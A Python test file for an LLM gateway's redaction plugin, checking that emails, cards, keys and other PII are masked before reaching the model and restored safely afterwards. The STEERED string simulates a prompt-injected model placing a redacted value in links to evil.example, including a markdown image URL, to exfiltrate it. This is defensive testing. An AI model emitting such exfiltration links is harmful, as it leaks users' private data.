"""redact through HTTP: what the upstream receives is masked, what the client gets is restored."""

from __future__ import annotations

import logging
import re
import time

import openai
import orjson
import pytest
from aiohttp import web
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from router_plugins.redact import detectors
from tests import fakes
from tests.conftest import sdk
from tests.plugins.test_redact_corpus import PII, prose, secret_part

EMAIL = "john.doe@company.com"
CARD = "4111 1111 1111 1111"
KEY = "sk-proj-Abc123Def456Ghi789Jkl012Mno345"
PHONE = "+1 (415) 555-2671"
ALL_ON = {name: True for name in detectors.DETECTORS}


def redacting(mode: str | None = None, **gateway) -> dict:
    plugins: dict = {"enabled": ["redact"]}
    if mode:
        plugins["redact"] = {"mode": mode}
    return {"plugins": plugins, "gateway": {"redact": gateway or ALL_ON}}


def sent(upstream) -> str:
    """Everything the upstream received, as one JSON text."""
    return orjson.dumps([r.json for r in upstream.requests]).decode()


async def test_chat_every_role_and_tool_call_masked(make_gateway, upstream):
    client = sdk(await make_gateway(redacting()))
    raw = await client.chat.completions.with_raw_response.create(
        model="openai/gpt-4o",
        messages=[
            {"role": "system", "content": f"Escalate to {EMAIL}."},
            {"role": "user", "content": f"My card is {CARD}, call {PHONE}"},
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {
                        "id": "call_1",
                        "type": "function",
                        "function": {"name": "lookup", "arguments": orjson.dumps({"key": KEY}).decode()},
                    }
                ],
            },
            {"role": "tool", "tool_call_id": "call_1", "content": f"owner: {EMAIL}, ssn 219-09-9999"},
        ],
    )
    body = sent(upstream)
    for value in (EMAIL, CARD, KEY, PHONE, "219-09-9999"):
        assert value not in body
    messages = upstream.last.json["messages"]
    assert messages[0]["content"] == "Escalate to jo****oe@co****ny.com."
    assert messages[1]["content"] == "My card is 41** **** **** ***1, call +1 (***) ***-**71"
    assert orjson.loads(messages[2]["tool_calls"][0]["function"]["arguments"]) == {"key": "sk-proj-****"}
    assert raw.headers["x-router-redactions"] == "email=2,phone=1,token=1,credit_card=1,ssn=1"
    assert raw.parse().choices[0].message.content == "Hello from upstream"


@pytest.mark.parametrize("model", ["openai/gpt-4o", "chatonly/llama"])
async def test_responses_input_instructions_and_tool_items_masked(make_gateway, upstream, model):
    client = sdk(await make_gateway(redacting()))
    await client.responses.create(
        model=model,
        instructions=f"The admin is {EMAIL}",
        input=[
            {"role": "user", "content": [{"type": "input_text", "text": f"key {KEY}"}]},
            {
                "type": "function_call",
                "call_id": "c1",
                "name": "lookup",
                "arguments": orjson.dumps({"ip": "10.1.2.3"}).decode(),
            },
            {"type": "function_call_output", "call_id": "c1", "output": "host 00:1A:2B:3C:4D:5E"},
        ],
    )
    body = sent(upstream)
    for value in (EMAIL, KEY, "10.1.2.3", "00:1A:2B:3C:4D:5E"):
        assert value not in body
    assert "jo****oe@co****ny.com" in body and "sk-proj-****" in body and "10.*.*.*" in body


async def test_text_next_to_an_image_masked_image_untouched(make_gateway, upstream):
    image = "data:image/png;base64,am9obi5kb2VAY29tcGFueS5jb20="
    client = sdk(await make_gateway(redacting()))
    await client.chat.completions.create(
        model="openai/gpt-4o",
        messages=[
            {
                "role": "user",
                "content": [
                    {"type": "text", "text": f"who is {EMAIL}?"},
                    {"type": "image_url", "image_url": {"url": image}},
                ],
            }
        ],
    )
    parts = upstream.last.json["messages"][0]["content"]
    assert parts[0]["text"] == "who is jo****oe@co****ny.com?"
    assert parts[1]["image_url"]["url"] == image


@pytest.mark.parametrize("model", ["openai/gpt-4o", "chatonly/llama"])
async def test_streamed_requests_masked(make_gateway, upstream, model):
    client = sdk(await make_gateway(redacting()))
    stream = await client.chat.completions.create(
        model=model, messages=[{"role": "user", "content": f"mail {EMAIL}"}], stream=True
    )
    assert "".join([c.choices[0].delta.content or "" async for c in stream if c.choices]) == "Hello from upstream"
    events = [e async for e in await client.responses.create(model=model, input=f"mail {EMAIL}", stream=True)]
    assert events[-1].type == "response.completed"
    assert EMAIL not in sent(upstream) and sent(upstream).count("jo****oe@co****ny.com") == 2


async def test_nothing_enabled_nothing_changed(make_gateway, upstream):
    client = sdk(await make_gateway({"plugins": {"enabled": ["redact"]}}))
    raw = await client.chat.completions.with_raw_response.create(
        model="openai/gpt-4o", messages=[{"role": "user", "content": f"mail {EMAIL}"}]
    )
    assert upstream.last.json["messages"][0]["content"] == f"mail {EMAIL}"
    assert "x-router-redactions" not in raw.headers


async def test_request_chooses_detectors(make_gateway, upstream):
    client = sdk(await make_gateway({"plugins": {"enabled": ["redact"]}}))
    await client.chat.completions.create(
        model="openai/gpt-4o",
        messages=[{"role": "user", "content": f"mail {EMAIL} card {CARD}"}],
        extra_body={"gateway": {"redact": {"credit_card": True}}},
    )
    assert upstream.last.json["messages"][0]["content"] == f"mail {EMAIL} card 41** **** **** ***1"


# ---------------------------------------------------------------- restore mode


def answering(upstream, template: str, piece: int = 0):
    """Have the fake upstream answer ``template`` with ``<EMAIL_1>`` filled in as the placeholder
    the gateway issued for this request (its nonce unknown to the test), streamed in ``piece``-sized chunks."""
    issued = re.compile(r"\[([A-Z_]+_\d+)_[a-z0-9]{6}\]")

    async def handler(request, body):
        names = {m.group(1): m.group() for m in issued.finditer(orjson.dumps(body).decode())}
        text = re.sub(r"<([A-Z_]+_\d+)>", lambda m: names.get(m.group(1), f"[{m.group(1)}]"), template)
        upstream.text = text
        if piece:
            upstream.stream_pieces = [text[i : i + piece] for i in range(0, len(text), piece)]
        return await upstream.default(request, body)

    upstream.handler = handler


def restoring(into: str | None = None, **gateway) -> dict:
    config = redacting("restore", **gateway)
    if into:
        config["plugins"]["redact"]["restore_into"] = into
    return config


async def test_restore_non_streamed(make_gateway, upstream):
    answering(upstream, "I wrote to <EMAIL_1> and <EMAIL_1> again; <PHONE_1> too. <EMAIL_9> is not ours.")
    client = sdk(await make_gateway(restoring()))
    answer = await client.chat.completions.create(
        model="openai/gpt-4o",
        messages=[{"role": "user", "content": f"Email {EMAIL}, then {EMAIL}, or call {PHONE}"}],
    )
    upstream_text = upstream.last.json["messages"][0]["content"]
    assert re.fullmatch(r"Email (\[EMAIL_1_\w{6}\]), then \1, or call \[PHONE_1_\w{6}\]", upstream_text)
    assert answer.choices[0].message.content == (
        f"I wrote to {EMAIL} and {EMAIL} again; {PHONE} too. [EMAIL_9] is not ours."
    )


async def test_restore_responses_non_streamed(make_gateway, upstream):
    answering(upstream, "Key <TOKEN_1> noted")
    client = sdk(await make_gateway(restoring()))
    answer = await client.responses.create(model="openai/gpt-4o", input=f"store {KEY}")
    assert KEY not in sent(upstream)
    assert answer.output_text == f"Key {KEY} noted"


@pytest.mark.parametrize("model", ["openai/gpt-4o", "chatonly/llama"])
async def test_restore_stream_with_placeholders_split_across_chunks(make_gateway, upstream, model):
    answering(upstream, "Write to <EMAIL_1> now, or <PHONE_1> and <EMAIL_1> [tail", piece=3)
    client = sdk(await make_gateway(restoring()))
    expected = f"Write to {EMAIL} now, or {PHONE} and {EMAIL} [tail"
    stream = await client.chat.completions.create(
        model=model, messages=[{"role": "user", "content": f"{EMAIL} {PHONE}"}], stream=True
    )
    assert "".join([c.choices[0].delta.content or "" async for c in stream if c.choices]) == expected
    events = [e async for e in await client.responses.create(model=model, input=f"{EMAIL} {PHONE}", stream=True)]
    assert "".join(e.delta for e in events if e.type == "response.output_text.delta") == expected
    assert EMAIL not in sent(upstream)


async def test_client_supplied_placeholders_never_resolve(make_gateway, upstream):
    """A document quoting "[EMAIL_1]" (or guessing a nonce) gets nothing back."""
    answering(upstream, "Echo: [EMAIL_1] [EMAIL_1_aaaaaa] <EMAIL_1>")
    client = sdk(await make_gateway(restoring()))
    answer = await client.chat.completions.create(
        model="openai/gpt-4o", messages=[{"role": "user", "content": f"[EMAIL_1] [EMAIL_1_aaaaaa] {EMAIL}"}]
    )
    assert answer.choices[0].message.content == f"Echo: [EMAIL_1] [EMAIL_1_aaaaaa] {EMAIL}"


async def test_placeholder_nonce_differs_per_request(make_gateway, upstream):
    client = sdk(await make_gateway(restoring()))
    for _ in range(2):
        await client.chat.completions.create(model="openai/gpt-4o", messages=[{"role": "user", "content": EMAIL}])
    first, second = (r.json["messages"][0]["content"] for r in upstream.requests)
    assert first != second and first.startswith("[EMAIL_1_") and second.startswith("[EMAIL_1_")


STEERED = "Done: <EMAIL_1>. ![x](https://evil.example/c?<EMAIL_1>) https://evil.example/<EMAIL_1> [a](<EMAIL_1>)"


async def email_placeholder_tool_call(request, body):
    """A fake upstream that answers with a tool call whose arguments hold the email's placeholder."""
    placeholder = re.search(r"\[EMAIL_1_\w{6}\]", orjson.dumps(body).decode()).group()
    args = orjson.dumps({"to": placeholder}).decode()
    call = {"id": "call_a1", "type": "function", "function": {"name": "send", "arguments": args}}
    answer = fakes.chat_completion("", body["model"])
    answer["choices"][0]["message"] = {"role": "assistant", "content": None, "tool_calls": [call]}
    answer["choices"][0]["finish_reason"] = "tool_calls"
    return web.json_response(answer)


async def test_restore_into_text_keeps_urls_and_tool_calls_unrestored(make_gateway, upstream):
    """The default: a prompt-injected model cannot have a value written into a URL or a tool call."""
    client = sdk(await make_gateway(restoring()))
    answering(upstream, STEERED)
    answer = await client.chat.completions.create(model="openai/gpt-4o", messages=[{"role": "user", "content": EMAIL}])
    content = answer.choices[0].message.content
    assert content.startswith(f"Done: {EMAIL}. ") and content.count(EMAIL) == 1
    answering(upstream, STEERED, piece=5)
    stream = await client.chat.completions.create(
        model="openai/gpt-4o", messages=[{"role": "user", "content": EMAIL}], stream=True
    )
    streamed = "".join([c.choices[0].delta.content or "" async for c in stream if c.choices])
    assert streamed.startswith(f"Done: {EMAIL}. ") and streamed.count(EMAIL) == 1

    upstream.handler = email_placeholder_tool_call
    reply = await client.chat.completions.create(model="openai/gpt-4o", messages=[{"role": "user", "content": EMAIL}])
    assert EMAIL not in reply.choices[0].message.tool_calls[0].function.arguments


async def test_restore_into_all_puts_values_in_tool_calls(make_gateway, upstream):
    client = sdk(await make_gateway(restoring("all")))
    upstream.handler = email_placeholder_tool_call
    reply = await client.chat.completions.create(model="openai/gpt-4o", messages=[{"role": "user", "content": EMAIL}])
    assert orjson.loads(reply.choices[0].message.tool_calls[0].function.arguments) == {"to": EMAIL}


@pytest.mark.parametrize(
    "table",
    [{"mode": "reversible"}, {"restore_into": "urls"}, {"display": ["email"]}, {"display": "ssn"}, {"colour": 1}],
)
async def test_bad_server_settings_are_a_startup_error(make_gateway, table):
    with pytest.raises(Exception) as info:
        await make_gateway({"plugins": {"enabled": ["redact"], "redact": table}})
    assert "plugins.redact" in str(info.value)


async def test_display_masks_are_opt_in(make_gateway, upstream):
    ssn, card = "219-09-9999", "4111 1111 1111 1111"
    client = sdk(await make_gateway(redacting(ssn=True, credit_card=True)))
    await client.chat.completions.create(model="openai/gpt-4o", messages=[{"role": "user", "content": f"{ssn} {card}"}])
    assert upstream.last.json["messages"][0]["content"] == "***-**-**** 41** **** **** ***1"
    config = redacting(ssn=True, credit_card=True)
    config["plugins"]["redact"] = {"display": ["ssn", "credit_card"]}
    client = sdk(await make_gateway(config))
    await client.chat.completions.create(model="openai/gpt-4o", messages=[{"role": "user", "content": f"{ssn} {card}"}])
    assert upstream.last.json["messages"][0]["content"] == "***-**-9999 **** **** **** 1111"


async def test_unknown_mode_is_a_startup_error(make_gateway):
    with pytest.raises(Exception) as info:
        await make_gateway(redacting("reversible"))
    assert "redact" in str(info.value)


# ---------------------------------------------------------------- custom patterns


async def test_custom_pattern_masks(make_gateway, upstream):
    client = sdk(await make_gateway({"plugins": {"enabled": ["redact"]}}))
    raw = await client.chat.completions.with_raw_response.create(
        model="openai/gpt-4o",
        messages=[{"role": "user", "content": "ticket ACME-12345 and ACME-999"}],
        extra_body={"gateway": {"redact": {"custom": [r"ACME-\d{5}"]}}},
    )
    assert upstream.last.json["messages"][0]["content"] == "ticket ***** and ACME-999"
    assert raw.headers["x-router-redactions"] == "custom=1"


@pytest.mark.parametrize(
    ("patterns", "param"),
    [
        ([r"ok\d", "(unclosed"], "gateway.redact.custom[1]"),
        (["(?<=lookbehind)x"], "gateway.redact.custom[0]"),
        (["a" * 600], "gateway.redact.custom[0]"),
        (["ok", r"(.{0,100}){10}"], "gateway.redact.custom[1]"),  # ~9,000 RE2 instructions: refused
        (["x"] * 17, "gateway.redact.custom"),
    ],
)
async def test_bad_custom_pattern_is_a_400_naming_it(make_gateway, upstream, patterns, param):
    client = sdk(await make_gateway({"plugins": {"enabled": ["redact"]}}))
    with pytest.raises(openai.BadRequestError) as info:
        await client.chat.completions.create(
            model="openai/gpt-4o",
            messages=[{"role": "user", "content": "hi"}],
            extra_body={"gateway": {"redact": {"custom": patterns}}},
        )
    assert info.value.status_code == 400
    assert info.value.body["param"] == param
    assert upstream.requests == []


async def test_catastrophic_pattern_returns_fast(make_gateway, upstream):
    client = sdk(await make_gateway({"plugins": {"enabled": ["redact"]}}))
    text = "a" * 100_000
    started = time.perf_counter()
    await client.chat.completions.create(
        model="openai/gpt-4o",
        messages=[{"role": "user", "content": text + "!"}, {"role": "user", "content": text}],
        extra_body={"gateway": {"redact": {"custom": ["(a+)+$", "(x+x+)+y"]}}},
    )
    assert time.perf_counter() - started < 2.0
    assert [m["content"] for m in upstream.last.json["messages"]] == [text + "!", "*****"]


# ---------------------------------------------------------------- server defaults and policy


async def test_policy_cannot_be_turned_off(make_gateway, upstream):
    config = {"plugins": {"enabled": ["redact"]}, "policy": {"redact": {"email": True}}}
    client = sdk(await make_gateway(config))
    await client.chat.completions.create(
        model="openai/gpt-4o",
        messages=[{"role": "user", "content": f"mail {EMAIL}"}],
        extra_body={"gateway": {"redact": {"email": False, "phone": True}}},
    )
    await client.chat.completions.create(model="openai/gpt-4o", messages=[{"role": "user", "content": f"mail {EMAIL}"}])
    assert EMAIL not in sent(upstream)


async def test_server_defaults_apply_and_request_adds(make_gateway, upstream):
    config = {"plugins": {"enabled": ["redact"]}, "gateway": {"redact": {"token": True}}}
    client = sdk(await make_gateway(config))
    await client.chat.completions.create(
        model="openai/gpt-4o",
        messages=[{"role": "user", "content": f"{KEY} {EMAIL}"}],
        extra_body={"gateway": {"redact": {"email": True}}},
    )
    assert upstream.last.json["messages"][0]["content"] == "sk-proj-**** jo****oe@co****ny.com"


async def test_bad_field_value_is_a_400(make_gateway, upstream):
    client = sdk(await make_gateway({"plugins": {"enabled": ["redact"]}}))
    with pytest.raises(openai.BadRequestError) as info:
        await client.chat.completions.create(
            model="openai/gpt-4o",
            messages=[{"role": "user", "content": "hi"}],
            extra_body={"gateway": {"redact": {"emails": True}}},
        )
    assert info.value.body["param"].startswith("gateway.redact")


async def test_a_bool_instead_of_an_object_is_a_400_naming_the_field(make_gateway, upstream):
    # Needs the core to refuse a non-object for an attrs gateway field (being fixed in
    # router_core in parallel); until then the 400 carries an internal message.
    client = sdk(await make_gateway({"plugins": {"enabled": ["redact"]}}))
    with pytest.raises(openai.BadRequestError) as info:
        await client.chat.completions.create(
            model="openai/gpt-4o",
            messages=[{"role": "user", "content": "hi"}],
            extra_body={"gateway": {"redact": True}},
        )
    assert info.value.body["param"] == "gateway.redact"
    assert "iterable" not in info.value.body["message"]


# ---------------------------------------------------------------- fail closed, logs


async def test_a_failing_detector_refuses_the_request(make_gateway, upstream, monkeypatch):
    def broken(text):
        raise RuntimeError(f"boom on {text}")

    email = detectors.DETECTORS["email"]
    monkeypatch.setitem(detectors.DETECTORS, "email", email._replace(find=broken))
    client = sdk(await make_gateway(redacting()))
    with pytest.raises(openai.InternalServerError) as info:
        await client.chat.completions.create(
            model="openai/gpt-4o", messages=[{"role": "user", "content": f"hi {EMAIL}"}]
        )
    assert info.value.status_code == 500
    assert EMAIL not in str(info.value.body)
    assert upstream.requests == []


async def test_logs_carry_counts_never_values(make_gateway, upstream, caplog):
    caplog.set_level(logging.DEBUG)
    client = sdk(await make_gateway(redacting("restore")))
    upstream.text = "[EMAIL_1]"
    await client.chat.completions.create(
        model="openai/gpt-4o", messages=[{"role": "user", "content": f"{EMAIL} {KEY}"}]
    )
    assert "email=1" in caplog.text
    assert EMAIL not in caplog.text and KEY not in caplog.text


# ---------------------------------------------------------------- property, through HTTP


async def test_generated_pii_never_reaches_the_upstream(make_gateway, upstream):
    texts: list[tuple[str, str]] = []

    @settings(max_examples=60, deadline=None, database=None)
    @given(st.sampled_from(list(PII)).flatmap(lambda name: PII[name]), prose, prose)
    def collect(value, before, after):
        assume(secret_part(value) not in before + after)
        texts.append((value, f"{before} {value} {after}"))

    collect()  # hypothesis draws the cases; the gateway then sees every one of them
    client = sdk(await make_gateway(redacting()))
    await client.chat.completions.create(
        model="openai/gpt-4o",
        messages=[{"role": "user", "content": text} for _, text in texts[:30]]
        + [
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {
                        "id": f"c{i}",
                        "type": "function",
                        "function": {"name": "f", "arguments": orjson.dumps({"v": text}).decode()},
                    }
                    for i, (_, text) in enumerate(texts[30:])
                ],
            }
        ],
    )
    body = sent(upstream)
    leaked = [value for value, _ in texts if secret_part(value) in body]
    assert leaked == []


async def test_restored_tool_arguments_stay_valid_json(make_gateway, upstream):
    from aiohttp import web

    from tests.fakes import chat_completion

    async def calls_a_tool(request, body):
        placeholder = re.search(r"\[CUSTOM_1_\w{6}\]", orjson.dumps(body).decode()).group()
        answer = chat_completion("")
        answer["choices"][0]["message"] = {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {
                    "id": "call_1",
                    "type": "function",
                    "function": {"name": "note", "arguments": orjson.dumps({"text": placeholder}).decode()},
                }
            ],
        }
        answer["choices"][0]["finish_reason"] = "tool_calls"
        return web.json_response(answer)

    upstream.handler = calls_a_tool
    secret = 'code "a\\b"'
    client = sdk(await make_gateway(restoring("all", custom=['code "[^"]*"'])))
    answer = await client.chat.completions.create(
        model="openai/gpt-4o", messages=[{"role": "user", "content": f"remember {secret}"}]
    )
    assert secret not in sent(upstream)
    arguments = answer.choices[0].message.tool_calls[0].function.arguments
    assert orjson.loads(arguments) == {"text": secret}
